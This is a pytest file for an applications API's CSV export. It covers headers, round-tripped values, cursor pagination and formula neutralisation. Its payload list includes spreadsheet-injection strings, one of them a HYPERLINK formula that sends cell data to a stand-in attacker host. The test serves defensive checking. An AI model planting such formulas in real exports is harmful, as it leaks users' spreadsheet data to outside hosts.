"""format=csv on the list endpoints: header, values, neutralised formulas, numbers, pagination headers."""
from __future__ import annotations

from datetime import datetime

import pytest

from core.applications.records import RECORD_COLUMNS
from tests.api.conftest import parse_csv

LIST = "/api/v1/applications"

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1)",
    "+1",
    "-1",
    "\tTabbed",
    "\rCarriage",
    "=1+1",
]


def test_csv_page_parses_back_to_the_json_records(api_get, factory, tenant):
    for day in (1, 2, 3):
        factory.application(tenant.institution, program=tenant.other_program, cycle=tenant.cycle,
                            first_name="Zoë", last_name='O"Neil, Jr.', decision="waitlisted", paid=day == 2,
                            submitted_at=datetime(2026, 4, day, 10, 30, 0, 250000))

    json_records = api_get(tenant, LIST).get_json()["data"]
    response = api_get(tenant, LIST, {"format": "csv"})

    assert response.status_code == 200
    assert response.headers["X-Has-Next"] == "false"
    assert "X-Cursor" not in response.headers
    text = response.get_data(as_text=True)
    assert text.splitlines()[0] == ",".join(RECORD_COLUMNS)
    rows = parse_csv(response)
    assert len(rows) == 3
    for row, record in zip(rows, json_records, strict=True):
        assert row["id"] == record["id"]
        assert row["personal.first_name"] == "Zoë"
        assert row["personal.last_name"] == 'O"Neil, Jr.'
        assert row["personal.phone"] == "+250788000000"  # a plain phone number is not quoted
        assert row["application.decision"] == "waitlisted"
        assert row["application.submitted_at"] == record["application"]["submitted_at"]
        assert row["application.submitted_at"].endswith(".250000Z")
        assert row["payment.paid"] == ("true" if record["payment"]["paid"] else "false")
        assert row["payment.currency"] == "USD"
        assert float(row["payment.amount"]) == record["payment"]["amount"] == 75.5


@pytest.mark.parametrize("payload", FORMULA_NAMES)
def test_formula_payloads_are_neutralised(api_get, factory, tenant, payload):
    factory.application(tenant.institution, program=tenant.program, cycle=tenant.cycle,
                        first_name=payload, last_name=payload, email=f"{payload}@example.com")
    [row] = parse_csv(api_get(tenant, LIST, {"format": "csv"}))
    assert row["personal.first_name"] == "'" + payload
    assert row["personal.last_name"] == "'" + payload
    assert row["personal.email"] == f"'{payload}@example.com"
    json_record = api_get(tenant, LIST).get_json()["data"][0]
    assert json_record["personal"]["first_name"] == payload, "JSON keeps the value as stored"


def test_numbers_stay_numbers(api_get, factory, tenant):
    free = factory.program(tenant.institution, name="Free course", fee="0")
    factory.application(tenant.institution, program=free, cycle=tenant.cycle, first_name="-1")
    [row] = parse_csv(api_get(tenant, LIST, {"format": "csv"}))
    assert row["payment.amount"] == "0.00"
    assert row["personal.first_name"] == "'-1"


def test_csv_pages_carry_the_cursor_in_headers(api_get, factory, tenant):
    made = [factory.application(tenant.institution, program=tenant.program, cycle=tenant.cycle)
            for _ in range(5)]
    expected = [a.id for a in sorted(made, key=lambda a: (a.submitted_at, a.id))]
    seen, cursor = [], None
    while True:
        params = {"format": "csv", "limit": 2, **({"cursor": cursor} if cursor else {})}
        response = api_get(tenant, LIST, params)
        seen.extend(row["id"] for row in parse_csv(response))
        if response.headers["X-Has-Next"] == "false":
            assert "X-Cursor" not in response.headers
            break
        assert response.headers["X-Has-Next"] == "true"
        cursor = response.headers["X-Cursor"]
    assert seen == expected


def test_empty_csv_page_is_just_the_header(api_get, tenant):
    response = api_get(tenant, LIST, {"format": "csv"})
    assert response.get_data(as_text=True) == ",".join(RECORD_COLUMNS) + "\n"


def test_csv_errors_are_json(api_get, tenant):
    response = api_get(tenant, LIST, {"format": "csv", "limit": "0"})
    assert response.status_code == 400
    assert response.headers["Content-Type"] == "application/json"
    assert response.get_json()["errors"][0]["name"] == "limit"
